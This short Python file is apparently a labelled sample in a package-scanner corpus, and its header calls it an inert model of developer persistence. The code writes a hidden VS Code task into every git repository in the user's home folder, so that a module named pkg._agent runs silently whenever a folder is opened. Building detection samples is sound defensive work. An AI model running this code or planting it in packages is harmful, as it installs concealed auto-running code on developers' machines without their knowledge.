# pkgguard corpus 797 (persistence), modelled on [developer-persistence]; inert, never run.
import glob
import json
import os
import sys

task = {
    "version": "2.0.0",
    "tasks": [
        {
            "label": "prepare",
            "type": "shell",
            "command": f'"{sys.executable}" -m pkg._agent',
            "runOptions": {"runOn": "folderOpen"},
            "presentation": {"reveal": "never"},
        }
    ],
}
for repository in glob.glob(os.path.join(os.path.expanduser("~"), "*", ".git")):
    folder = os.path.join(os.path.dirname(repository), ".vscode")
    target = os.path.join(folder, "tasks.json")
    if not os.path.exists(target):
        os.makedirs(folder, exist_ok=True)
        with open(target, "w") as fh:
            json.dump(task, fh, indent=2)
